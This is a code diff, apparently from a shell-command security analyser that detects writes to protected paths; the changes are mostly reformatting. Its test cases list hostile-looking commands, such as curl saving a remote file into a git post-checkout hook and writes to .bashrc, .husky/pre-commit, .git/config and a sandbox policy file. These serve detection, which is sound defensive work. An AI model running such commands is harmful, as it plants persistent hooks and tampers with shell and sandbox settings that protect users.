@@ -39,7 +39,7 @@ export const protectedWrites: FindingFamily<Id> = {
         'cd "$X" && echo a > .husky/pre-commit',
         'echo x > .sbx/policy.json',
         'curl -o .git/hooks/post-checkout https://example.com/x',
-        "awk '{print > \".bashrc\"}' f",
+        'awk \'{print > ".bashrc"}\' f',
         'for f in .git/config a; do echo x > $f; done',
       ],
       misses: [
@@ -67,7 +67,8 @@ export const protectedWrites: FindingFamily<Id> = {
     };
     checkEffects(record.result.effects, context, record, once);
     for (const { interpretation, wrapping } of record.instances) {
-      for (const write of [interpretation, ...wrapping].flatMap((one) => one?.writes ?? [])) checkArg(write.arg, write.cwd, write.target, context, record, once);
+      for (const write of [interpretation, ...wrapping].flatMap((one) => one?.writes ?? []))
+        checkArg(write.arg, write.cwd, write.target, context, record, once);
     }
     for (const redirection of record.command.redirections) {
       if (redirection.operator === '<' || redirection.operator === '<&') continue;
@@ -81,7 +82,12 @@ export const protectedWrites: FindingFamily<Id> = {
   },
 };
 
-function checkEffects(effects: readonly Effect[], context: AnalysisContext, record: CommandRecord | undefined, report: Report<Id>): void {
+function checkEffects(
+  effects: readonly Effect[],
+  context: AnalysisContext,
+  record: CommandRecord | undefined,
+  report: Report<Id>,
+): void {
   for (const effect of effects) {
     if (effect.kind !== 'write' && effect.kind !== 'remove') continue;
     const { target } = effect;
@@ -115,10 +121,16 @@ function checkArg(
   const list = context.catalogue.protectedPaths;
   const hit = arg.text === undefined ? findProtectedByGlob(path, list) : findProtected(path, list);
   const span = { start: arg.word.start, end: arg.word.end };
-  if (hit !== undefined) report('protected-path', messageFor(hit, target?.source ?? arg.word.source), span, record.command.id);
+  if (hit !== undefined)
+    report('protected-path', messageFor(hit, target?.source ?? arg.word.source), span, record.command.id);
 }
 
-function reportHit(hit: ProtectedPath, target: PathTarget, record: CommandRecord | undefined, report: Report<Id>): void {
+function reportHit(
+  hit: ProtectedPath,
+  target: PathTarget,
+  record: CommandRecord | undefined,
+  report: Report<Id>,
+): void {
   report('protected-path', messageFor(hit, target.source), target.span, record?.command.id);
 }
 
